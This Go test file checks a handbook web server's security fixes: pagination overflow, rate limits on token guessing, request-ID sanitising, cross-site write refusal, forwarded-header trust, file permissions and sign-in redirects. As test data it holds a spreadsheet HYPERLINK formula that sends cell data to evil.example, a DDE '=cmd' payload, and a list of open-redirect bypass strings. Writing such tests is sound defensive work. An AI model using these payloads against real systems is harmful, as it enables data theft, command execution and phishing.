package web_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"handbook/content/store"
	"handbook/search/searchtest"
	"handbook/web"
	"handbook/web/auth"
)

// TestPageTimesSizeDoesNotOverflow: page × size used to overflow, a panic
// for the largest page and a wrap-around to a shallow page for others.
func TestPageTimesSizeDoesNotOverflow(t *testing.T) {
	e := newSecEnv(t, 1000, 1000)
	for _, target := range []string{
		"/api/search?q=joint&page=9223372036854775807",
		"/api/search?q=joint&page=922337203685477581&size=10", // × 10 wraps to a small positive number
		"/api/search?q=joint&page=461168601842738791&size=20", // × 20 wraps to 4
		"/search?q=joint&page=9223372036854775807",
	} {
		rec := e.as(principals[0], "GET", target, "")
		if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "too deep") {
			t.Errorf("%s = %d %.200s, want 400 too deep", target, rec.Code, rec.Body)
		}
	}
	if rec := e.as(principals[0], "GET", "/api/search?q=joint&page=99999999999999999999", ""); rec.Code != http.StatusBadRequest {
		t.Errorf("a page number beyond int64 = %d", rec.Code)
	}
}

// TestCredentialGuessingIsLimited: wrong bearer tokens used to be answered
// 401 as fast as they came, before any rate limit.
func TestCredentialGuessingIsLimited(t *testing.T) {
	e := newSecEnv(t, 1000, 1000)
	try := func(remote, token string) int {
		req := httptest.NewRequest("GET", "/api/search?q=joint", nil)
		req.RemoteAddr = remote
		req.Header.Set("Authorization", "Bearer "+token)
		rec := httptest.NewRecorder()
		e.h.ServeHTTP(rec, req)
		return rec.Code
	}
	codes := map[int]int{}
	for i := range 300 {
		codes[try("203.0.113.5:4000", "guess-"+itoa(i))]++
	}
	if codes[http.StatusUnauthorized] != 10 || codes[http.StatusTooManyRequests] != 290 {
		t.Errorf("300 wrong tokens from one client: %v, want 10 × 401 then 429", codes)
	}
	// Once limited, even the right token is not checked: a guess that
	// happens to be right teaches nothing.
	if code := try("203.0.113.5:4000", "tok-admin"); code != http.StatusTooManyRequests {
		t.Errorf("the right token from a limited client = %d, want 429", code)
	}
	if code := try("203.0.113.6:4000", "tok-admin"); code != http.StatusOK {
		t.Errorf("another client with the right token = %d", code)
	}
	// Sign-in through the form is limited the same way, per client.
	form := e.as(principals[0], "GET", "/signin", "")
	m := csrfField.FindStringSubmatch(form.Body.String())
	signIn := func(remote, token string) int {
		v := url.Values{"token": {token}, "_csrf": {m[1]}}
		req := httptest.NewRequest("POST", "/signin", strings.NewReader(v.Encode()))
		req.RemoteAddr = remote
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for _, c := range form.Result().Cookies() {
			req.AddCookie(c)
		}
		rec := httptest.NewRecorder()
		e.h.ServeHTTP(rec, req)
		return rec.Code
	}
	codes = map[int]int{}
	for i := range 30 {
		codes[signIn("203.0.113.7:4000", "guess-"+itoa(i))]++
	}
	if codes[http.StatusUnauthorized] != 10 || codes[http.StatusTooManyRequests] != 20 {
		t.Errorf("30 wrong sign-ins: %v", codes)
	}
	// Counted in the metrics and in the audit log (10 + 10 failures that
	// were checked; the refused ones were not).
	admin := principals[4]
	metrics := e.as(admin, "GET", "/metrics", "").Body.String()
	for _, want := range []string{`handbook_auth_failures_total{kind="token"} 10`, `handbook_auth_failures_total{kind="sign_in"} 10`, `handbook_http_rejected_total{reason="rate_limit"}`} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics lack %s", want)
		}
	}
	var got struct{ Entries []store.Entry }
	_ = json.Unmarshal(e.as(admin, "GET", "/api/audit", "").Body.Bytes(), &got)
	failures := map[string]int{}
	for _, en := range got.Entries {
		if en.Action == store.ActionAuthFailure {
			failures[en.Via]++
		}
	}
	if failures["token"] != 10 || failures["sign_in"] != 10 {
		t.Errorf("audited failures %v", failures)
	}
}

var generatedID = regexp.MustCompile(`^[A-Za-z0-9]{32}$`)

// TestRequestIDIsNotTheClients: the audit log used to record whatever
// X-Request-ID a client sent: unbounded, forgeable, a formula in a CSV.
func TestRequestIDIsNotTheClients(t *testing.T) {
	e := newSecEnv(t, 1000, 1000)
	read := func(remote, rid string, header map[string]string) string {
		req := httptest.NewRequest("GET", "/docs/secret", nil)
		req.RemoteAddr = remote
		req.Header.Set("X-Request-ID", rid)
		for k, v := range header {
			req.Header.Set(k, v)
		}
		rec := httptest.NewRecorder()
		e.h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			t.Fatalf("read = %d", rec.Code)
		}
		return rec.Header().Get("X-Request-ID")
	}
	admin := map[string]string{"Authorization": "Bearer tok-admin"}
	formula := `=HYPERLINK("https://evil.example/?"&A1,"x")`
	if got := read("198.51.100.1:1", formula, admin); !generatedID.MatchString(got) {
		t.Errorf("a client's X-Request-ID %q was kept as %q", formula, got)
	}
	if got := read("198.51.100.1:1", "abc-123", admin); got == "abc-123" {
		t.Error("a safe X-Request-ID from a client that is not a trusted proxy was kept")
	}
	// From the trusted proxy, a short safe id is kept (it ties the logs of
	// both together); a long or unsafe one is replaced.
	proxied := map[string]string{"X-Forwarded-User": "=cmd|' /C calc'!A0", "X-Forwarded-Groups": "investigators"}
	if got := read("192.0.2.1:1", "edge-42.a_b", proxied); got != "edge-42.a_b" {
		t.Errorf("the trusted proxy's request id became %q", got)
	}
	if got := read("192.0.2.1:1", strings.Repeat("a", 65), proxied); !generatedID.MatchString(got) {
		t.Errorf("a 65-character id from the proxy was kept: %q", got)
	}
	if got := read("192.0.2.1:1", formula, proxied); !generatedID.MatchString(got) {
		t.Errorf("a formula from the proxy was kept: %q", got)
	}
	csv := e.as(principals[4], "GET", "/api/audit?format=csv", "").Body.String()
	if strings.Contains(csv, "HYPERLINK") || strings.Contains(csv, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa") {
		t.Errorf("the audit export holds a client's request id:\n%s", csv)
	}
	if !strings.Contains(csv, "edge-42.a_b") {
		t.Errorf("the audit export lacks the proxy's request id:\n%s", csv)
	}
	for line := range strings.Lines(csv) {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("a cell a spreadsheet reads as a formula: %q", cell)
			}
		}
	}
}

// openServer is the server of `serve` without --auth: everyone is an
// anonymous trainer (DemoGrant), with course packs.
func openServer(t *testing.T, opts web.Options) http.Handler {
	t.Helper()
	store, err := store.Open(filepath.Join(t.TempDir(), "user.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	opts.Packs = store
	srv, err := web.New(searchtest.Service(t, os.DirFS("../search/testdata/behaviour/docs")), opts)
	if err != nil {
		t.Fatal(err)
	}
	return srv.Handler()
}

// TestCrossSiteWritesRefused: in the open mode a foreign page could
// duplicate a pack with an empty text/plain POST (a "simple" request that
// browsers send cross-site without asking).
func TestCrossSiteWritesRefused(t *testing.T) {
	h := openServer(t, web.Options{})
	send := func(method, target, ctype, body string, header map[string]string) *httptest.ResponseRecorder {
		req := httptest.NewRequest(method, target, strings.NewReader(body))
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for k, v := range header {
			req.Header.Set(k, v)
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		return rec
	}
	created := send("POST", "/api/packs", "application/json", `{"title":"Mine"}`, nil)
	var pk store.Pack
	if err := json.Unmarshal(created.Body.Bytes(), &pk); err != nil || created.Code != http.StatusCreated {
		t.Fatalf("create = %d %s", created.Code, created.Body)
	}
	foreign := []map[string]string{
		{"Origin": "https://evil.example"},
		{"Sec-Fetch-Site": "cross-site"},
		{"Origin": "null"},
	}
	for _, hdr := range foreign {
		for _, tc := range []struct{ method, target, ctype, body string }{
			{"POST", "/api/packs/" + pk.ID + "/duplicate", "text/plain", ""},
			{"POST", "/api/packs", "application/json", `{"title":"Planted"}`},
			{"DELETE", "/api/packs/" + pk.ID, "", ""},
			{"POST", "/packs/" + pk.ID + "/duplicate", "application/x-www-form-urlencoded", ""},
		} {
			if rec := send(tc.method, tc.target, tc.ctype, tc.body, hdr); rec.Code != http.StatusForbidden {
				t.Errorf("%s %s with %v = %d, want 403", tc.method, tc.target, hdr, rec.Code)
			}
		}
	}
	list := send("GET", "/api/packs", "", "", nil).Body.String()
	if strings.Count(list, `"id"`) != 1 {
		t.Errorf("a cross-site write changed the packs: %s", list)
	}
	// The same site's page, and a client that is no browser, still write.
	if rec := send("POST", "/api/packs/"+pk.ID+"/duplicate", "application/json", "{}", map[string]string{"Origin": "http://example.com", "Sec-Fetch-Site": "same-origin"}); rec.Code != http.StatusCreated {
		t.Errorf("a same-origin duplicate = %d %s", rec.Code, rec.Body)
	}
	if rec := send("POST", "/api/packs", "application/json", `{"title":"Script"}`, nil); rec.Code != http.StatusCreated {
		t.Errorf("a write without browser headers = %d", rec.Code)
	}
}

// TestLinksIgnoreForwardedHeadersFromClients: links in /opensearch.xml took
// their scheme from any client's X-Forwarded-Proto.
func TestLinksIgnoreForwardedHeadersFromClients(t *testing.T) {
	a, err := auth.New(auth.Config{Anonymous: web.DemoGrant, Proxy: &auth.Proxy{UserHeader: "X-Forwarded-User", Trusted: []string{"192.0.2.1"}}})
	if err != nil {
		t.Fatal(err)
	}
	h := openServer(t, web.Options{Auth: a})
	fetch := func(remote string) string {
		req := httptest.NewRequest("GET", "/opensearch.xml", nil)
		req.RemoteAddr = remote
		req.Header.Set("X-Forwarded-Proto", "https")
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		return rec.Body.String()
	}
	for _, client := range []string{"198.51.100.1:1", "10.1.2.3:1", "127.0.0.1:1"} { // Echo's default trusts private and loopback addresses
		if body := fetch(client); !strings.Contains(body, `template="http://example.com/search`) {
			t.Errorf("the X-Forwarded-Proto of %s set the links:\n%s", client, body)
		}
	}
	if body := fetch("192.0.2.1:1"); !strings.Contains(body, `template="https://example.com/search`) {
		t.Errorf("the trusted proxy's X-Forwarded-Proto was ignored:\n%s", body)
	}
	// With --base-url, the links are that address whatever the request says.
	h = openServer(t, web.Options{BaseURL: "https://handbook.example.org/"})
	if body := fetch("192.0.2.1:1"); !strings.Contains(body, `template="https://handbook.example.org/search`) {
		t.Errorf("the base URL was not used:\n%s", body)
	}
}

func TestUserDataIsPrivate(t *testing.T) {
	dir := t.TempDir()
	fresh := filepath.Join(dir, "user.db")
	st, err := store.Open(fresh)
	if err != nil {
		t.Fatal(err)
	}
	st.Close()
	loose := filepath.Join(dir, "old.db")
	if err := os.WriteFile(loose, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	old, err := store.Open(loose)
	if err != nil {
		t.Fatal(err)
	}
	audit := old.Audit()
	if err := audit.Record(context.Background(), store.Entry{User: "u", Action: store.ActionRead, DocID: "d", Level: "restricted"}); err != nil {
		t.Fatal(err)
	}
	old.Close()
	for _, p := range []string{fresh, loose} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if perm := st.Mode().Perm(); perm != 0o600 {
			t.Errorf("%s has mode %o, want 600", filepath.Base(p), perm)
		}
	}
}

func itoa(i int) string { return strconv.Itoa(i) }

// TestSignInRedirectStaysOnSite: "/\t/evil.example" passed the prefix checks
// of safeNext, and browsers drop the tab and go to //evil.example.
func TestSignInRedirectStaysOnSite(t *testing.T) {
	e := newSecEnv(t, 1000, 1000)
	form := e.as(principals[0], "GET", "/signin", "")
	m := csrfField.FindStringSubmatch(form.Body.String())
	signIn := func(next string) string {
		v := url.Values{"token": {"tok-trainer"}, "_csrf": {m[1]}, "next": {next}}
		req := httptest.NewRequest("POST", "/signin", strings.NewReader(v.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for _, c := range form.Result().Cookies() {
			req.AddCookie(c)
		}
		rec := httptest.NewRecorder()
		e.h.ServeHTTP(rec, req)
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("sign-in with next=%q = %d", next, rec.Code)
		}
		return rec.Header().Get("Location")
	}
	for _, next := range []string{
		"/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "/\x00/evil.example", "/ /evil.example",
		"//evil.example", "/\\evil.example", "\\\\evil.example", "/%2F/evil.example", "/%2f%2fevil.example",
		"/%5Cevil.example", "https://evil.example/", "javascript:alert(1)", "evil.example", "/\u00a0/evil.example",
		"/\u2028/evil.example", "///evil.example", "",
	} {
		if loc := signIn(next); loc != "/" {
			t.Errorf("next=%q redirects to %q, want /", next, loc)
		}
	}
	for _, next := range []string{"/packs", "/search?q=aeo&org=WCO", "/docs/open#1-procedure", "/search?q=%2F%2Fx"} {
		if loc := signIn(next); loc != next {
			t.Errorf("next=%q redirects to %q", next, loc)
		}
	}
}
